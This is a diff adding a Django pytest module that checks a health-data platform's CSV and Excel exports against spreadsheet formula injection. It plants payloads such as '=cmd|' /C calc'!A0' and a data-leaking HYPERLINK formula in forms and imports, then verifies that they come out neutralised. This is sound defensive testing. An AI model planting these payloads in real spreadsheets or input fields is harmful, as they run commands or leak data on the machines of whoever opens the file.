@@ -1,0 +1,372 @@
+"""Every CSV and Excel file the project offers cannot run anything (issue #13 point 1).
+
+Hostile values are planted where a user can type or import one (a training registration,
+the directory, a product label from an import, a prescriber id, a territory name…); then
+every export of the web pages (found through the URL patterns) and of the ``cratb``
+command line is downloaded or written and read back: no CSV cell starts with a formula
+character unless neutralised by a leading ``'``, no workbook cell is a formula, hostile
+texts are text cells with Excel's quote prefix, and numbers are numbers.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import inspect
+import io
+import re
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.urls import URLPattern, URLResolver, get_resolver
+from openpyxl import load_workbook
+from pytest_django.fixtures import Settings
+
+from cratb.accounts.models import User
+from cratb.accounts.tests.factories import DepartementFactory
+from cratb.advice.tests.factories import AdviceRequestFactory
+from cratb.cli import build_parser, main
+from cratb.dashboards.tests.factories import IndicatorValueFactory, PublicationFactory
+from cratb.engine.sources import import_file
+from cratb.engine.tabular import FORMULA_START, is_hostile
+from cratb.engine.tests.indicators import golden
+from cratb.engine.tests.indicators.test_resistance import _csv as isolates_csv
+from cratb.network.models import Organization, Territory
+from cratb.network.tests.factories import EstablishmentFactory, PractitionerFactory, RoleFactory
+from cratb.training.tests.factories import SessionFactory
+
+CALC = "=cmd|' /C calc'!A0"
+LINK = '=HYPERLINK("http://x"&A1,"x")'
+PLUS = "+1+cmd|' /C calc'!A0"
+AT = "@SUM(1+1)*cmd|' /C calc'!A0"
+MINUS = "-2+3+cmd|' /C calc'!A0"
+HOSTILE = (CALC, LINK, PLUS, AT, MINUS)
+
+
+# --- reading files back --------------------------------------------------------------------
+
+
+@dataclass
+class Found:
+    texts: list[str]
+    numbers: int
+
+
+def read_csv(body: bytes, *, delimiter: str) -> Found:
+    text = body.decode("utf-8-sig")
+    texts: list[str] = []
+    numbers = 0
+    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
+        for cell in row:
+            if cell.startswith(FORMULA_START):
+                # Only a plain number may start so (« -5 », « -1,5 »).
+                assert not is_hostile(cell), f"cellule CSV exécutable : {cell!r}"
+            texts.append(cell)
+            numbers += _is_number(cell)
+    return Found(texts, numbers)
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell.replace(",", ".") if "," in cell and "." not in cell else cell)
+    except ValueError:
+        return False
+    return True
+
+
+def read_xlsx(body: bytes) -> Found:
+    book = load_workbook(io.BytesIO(body))
+    texts: list[str] = []
+    numbers = 0
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"formule dans {sheet.title}!{cell.coordinate}"
+                if isinstance(cell.value, str):
+                    if is_hostile(cell.value):
+                        assert cell.quotePrefix, f"{cell.coordinate} sans préfixe « ' »"
+                    texts.append(cell.value)
+                elif isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
+                    numbers += 1
+    return Found(texts, numbers)
+
+
+def read(body: bytes, fmt: str, *, delimiter: str = ";") -> Found:
+    return read_xlsx(body) if fmt == "xlsx" else read_csv(body, delimiter=delimiter)
+
+
+def planted(found: Found, fmt: str, value: str) -> bool:
+    """The hostile ``value`` is in the file, neutralised as the format wants (the readers
+    above have checked every cell: a CSV cell starting with it carries a leading ``'``, a
+    workbook cell holding it is a text with the quote prefix)."""
+    if fmt == "csv" and not any(text == "'" + value for text in found.texts):
+        return any(value in text and not is_hostile(text) for text in found.texts)
+    return any(value in text for text in found.texts)
+
+
+# --- the data ------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The golden data set, plus a product whose label and a prescriber whose id are
+    hostile, plus isolates for the antibiogram."""
+    folder = tmp_path_factory.mktemp("hostile")
+    path = golden.build(folder)
+    extra = {
+        "products": (
+            "cip13,label,atc,route,units_per_box,amount_per_unit,amount_unit,ddd_per_box\n"
+            f'EVIL1,"{LINK.replace(chr(34), chr(34) * 2)}",J01CA04,O,12,500,mg,\n'
+        ),
+        "dispensations": (
+            f"{golden.HEADER}\n"
+            f"X01,2024-05-10,RXX,P99,30,F,75,{CALC.replace(',', '')},general_practice,EVIL1,3,"
+            "community\n"
+        ),
+        "isolates": isolates_csv(),
+    }
+    for kind, text in extra.items():
+        file = folder / f"extra-{kind}.csv"
+        file.write_text(text)
+        report = import_file(kind, file, warehouse=path)
+        assert report.rejected == 0, report.rejections
+    return path
+
+
+@pytest.fixture
+def hostile_platform(
+    client: Client,
+    coordinator: User,
+    region: Territory,
+    departement: Territory,
+    settings: Settings,
+    warehouse: Path,
+) -> None:
+    """Hostile values wherever a person types them on the platform."""
+    settings.CRATB_WAREHOUSE = warehouse
+    hostile_departement = DepartementFactory.create(code="94", name=PLUS, parent=region)
+    # A visitor registers for a training session through the public form.
+    session = SessionFactory.create(published=True, departement=departement)
+    response = client.post(
+        f"/formation/agenda/{session.pk}/",
+        {
+            "first_name": CALC,
+            "last_name": LINK,
+            "email": "visiteur@exemple.fr",
+            "profession": "physician",
+            "organization_name": AT,
+            "departement": hostile_departement.pk,
+            "consent": "on",
+        },
+    )
+    assert response.status_code == 302, response.content.decode()[:2000]
+    # The directory: an organisation, a person, a role, a nursing home without agreement.
+    home = EstablishmentFactory.create(
+        name=LINK, kind=Organization.Kind.NURSING_HOME, departement=departement
+    )
+    person = PractitionerFactory.create(last_name=CALC, first_name=MINUS)
+    RoleFactory.create(practitioner=person, organization=home)
+    # Published values with a hostile dimension (a prescriber id from an import).
+    publication = PublicationFactory.create()
+    IndicatorValueFactory.create(
+        publication=publication,
+        indicator="community.prescriber_profile",
+        grouping="prescriber_id",
+        dimensions={"prescriber_id": CALC},
+        individual=True,
+        value=-12.5,
+    )
+    # Advice requests received in a département with a hostile name.
+    received = dt.datetime(2024, 3, 4, 10, tzinfo=dt.UTC)
+    AdviceRequestFactory.create(departement=hostile_departement, received_at=received)
+
+
+# --- the web pages -------------------------------------------------------------------------
+
+#: Every export of the pages: url name → (query, values planted in it). The names of
+#: exports without any number column are in TEXT_ONLY.
+WEB_EXPORTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
+    "training:session-manage": ({}, (CALC, LINK, AT)),
+    "training:figures": ({}, ()),
+    "network:export organizations": ({"kind": "organizations"}, (LINK,)),
+    "network:export practitioners": ({"kind": "practitioners"}, (CALC, MINUS)),
+    # Roles hold codes, dates and numbers only: nothing typed freely to plant.
+    "network:export roles": ({"kind": "roles"}, ()),
+    "network:gaps-export": ({}, (LINK,)),
+    "dashboards:indicator-list": ({}, (CALC,)),
+    "dashboards:ddd-report": ({}, (LINK,)),
+    "advice:figures-csv": ({"annee": "2024", "par": "territory"}, (PLUS,)),
+    "advice:figures-xlsx": ({"annee": "2024", "par": "territory"}, (PLUS,)),
+    "resistance:antibiogram": (
+        {"setting": "community", "date_from": "2024-01-01", "date_to": "2024-12-31"},
+        (),
+    ),
+}
+TEXT_ONLY = {"training:session-manage", "training:figures", "network:export practitioners"}
+#: Calls that make a file in a view: a view calling one of them must be walked above.
+EXPORT_CALLS = re.compile(r"(?<![\w.])(table_response|sheets_response|_download|to_xlsx|to_csv)\(")
+
+
+def _patterns(resolver: URLResolver, prefix: str = "") -> Iterator[tuple[str, URLPattern]]:
+    for item in resolver.url_patterns:
+        if isinstance(item, URLResolver):
+            namespace = f"{prefix}{item.namespace}:" if item.namespace else prefix
+            yield from _patterns(item, namespace)
+        elif item.name:
+            yield f"{prefix}{item.name}", item
+
+
+def test_every_view_that_makes_a_file_is_walked() -> None:
+    makers = set()
+    for name, pattern in _patterns(get_resolver()):
+        callback: Any = pattern.callback
+        if hasattr(callback, "view_class"):
+            continue
+        try:
+            source = inspect.getsource(callback)
+        except (OSError, TypeError):
+            continue
+        if EXPORT_CALLS.search(source):
+            makers.add(name)
+    walked = {key.split(" ")[0] for key in WEB_EXPORTS}
+    assert makers, "aucune vue d'export trouvée : la recherche est cassée"
+    assert makers <= walked, f"exports non vérifiés : {sorted(makers - walked)}"
+
+
+def _url(key: str) -> str:
+    from django.urls import reverse
+
+    name = key.split(" ")[0]
+    if name == "training:session-manage":
+        from cratb.training.models import TrainingSession
+
+        return reverse(name, args=[TrainingSession.objects.get().pk])
+    return reverse(name)
+
+
+@pytest.mark.usefixtures("hostile_platform")
+@pytest.mark.parametrize("key", sorted(WEB_EXPORTS))
+def test_web_exports_cannot_run_anything(client: Client, coordinator: User, key: str) -> None:
+    query, values = WEB_EXPORTS[key]
+    client.force_login(coordinator)
+    name = key.split(" ")[0]
+    formats = {"advice:figures-csv": ["csv"], "advice:figures-xlsx": ["xlsx"]}.get(
+        name, ["csv", "xlsx"]
+    )
+    for fmt in formats:
+        params = dict(query)
+        if not name.startswith("advice:figures"):
+            params["format"] = fmt
+        response = client.get(_url(key), params)
+        assert response.status_code == 200, (key, fmt)
+        assert response["Content-Disposition"].endswith(f'.{fmt}"'), (key, fmt)
+        body = b"".join(response) if response.streaming else response.content
+        if fmt == "csv":
+            assert body.startswith(b"\xef\xbb\xbf"), "CSV français : UTF-8 avec BOM"
+        found = read(body, fmt)
+        assert found.numbers > 0 or key in TEXT_ONLY, f"{key} : aucun nombre"
+        for value in values:
+            assert planted(found, fmt, value), f"{key} {fmt} : {value!r} absent"
+
+
+# --- the command line ----------------------------------------------------------------------
+
+#: Every command writing a CSV or a workbook: (arguments, format, values planted).
+COMMANDS: dict[str, tuple[list[str], tuple[str, ...]]] = {
+    "indicators compute": (
+        ["indicators", "compute", "community.did", "--by", "year,prescriber_id"],
+        (CALC.replace(",", ""),),
+    ),
+    "ddd report": (["ddd", "report"], (LINK,)),
+    "antibiogram": (
+        ["antibiogram", "--setting", "community", "--from", "2024-01-01", "--to", "2024-12-31"],
+        (),
+    ),
+}
+
+
+def _commands_with_files() -> set[str]:
+    """The command paths of ``cratb`` with a ``--out`` file or a CSV output."""
+    import argparse
+
+    found = set()
+
+    def walk(parser: argparse.ArgumentParser, path: tuple[str, ...]) -> None:
+        for action in parser._actions:
+            if isinstance(action, argparse._SubParsersAction):
+                for name, sub in action.choices.items():
+                    walk(sub, (*path, name))
+            elif "--out" in action.option_strings or (
+                "--format" in action.option_strings and "csv" in (action.choices or ())
+            ):
+                found.add(" ".join(path))
+        if path and path[-1] == "export":
+            found.add(" ".join(path))
+
+    walk(build_parser(), ())
+    return found
+
+
+def test_every_command_that_writes_a_table_is_walked() -> None:
+    walked = {*COMMANDS, "ast target", "indicators list", "lab-codes export"}
+    # The demo writes the input files it then imports, not an export of platform data.
+    assert _commands_with_files() - {"demo"} <= walked
+
+
+@pytest.mark.parametrize("command", sorted(COMMANDS))
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_command_files_cannot_run_anything(
+    command: str, suffix: str, warehouse: Path, tmp_path: Path
+) -> None:
+    arguments, values = COMMANDS[command]
+    out = tmp_path / f"out{suffix}"
+    assert main([*arguments, "--warehouse", str(warehouse), "--out", str(out)]) == 0
+    fmt = suffix.lstrip(".")
+    found = read(out.read_bytes(), fmt, delimiter=",")
+    assert found.numbers > 0
+    if fmt == "csv":
+        assert not out.read_bytes().startswith(b"\xef\xbb\xbf"), "CSV du contrat : sans BOM"
+    for value in values:
+        assert planted(found, fmt, value), f"{command} {fmt} : {value!r} absent"
+
+
+def test_indicator_list_as_csv_cannot_run_anything(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["indicators", "list", "--format", "csv"]) == 0
+    read(capsys.readouterr().out.encode(), "csv", delimiter=",")
+
+
+def test_targeted_reporting_output_cannot_run_anything(tmp_path: Path) -> None:
+    source = tmp_path / "isolates.csv"
+    source.write_text(
+        "isolate_id,patient_id,sampled_on,specimen,setting,departement,lab_id,organism,"
+        "antibiotic,sir,patient_age,patient_sex\n"
+        f'"{LINK.replace(chr(34), chr(34) * 2)}",P1,2025-01-10,urine,community,75,L1,'
+        "Escherichia coli,AMX,R,40,F\n"
+    )
+    out = tmp_path / "out.csv"
+    assert main(["ast", "target", str(source), "--out", str(out), "--no-log"]) == 0
+    found = read(out.read_bytes(), "csv", delimiter=",")
+    assert planted(found, "csv", LINK)
+    assert "40" in found.texts  # the age is still a plain number
+
+
+def test_lab_codes_export_cannot_run_anything(
+    warehouse: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    from cratb.engine.sources import lab_codes
+
+    try:
+        lab_codes.save(
+            tmp_path / "codes.duckdb",
+            [{"lab_id": CALC.replace(",", ""), "lab_code": "AMOX", "whonet": "AMX"}],
+            changed_by="test",
+        )
+    except lab_codes.LabCodeError:
+        pytest.skip("the code table refuses such a lab id: nothing hostile to export")
+    assert main(["lab-codes", "export", "--warehouse", str(tmp_path / "codes.duckdb")]) == 0
+    found = read(capsys.readouterr().out.encode(), "csv", delimiter=",")
+    assert planted(found, "csv", CALC.replace(",", ""))
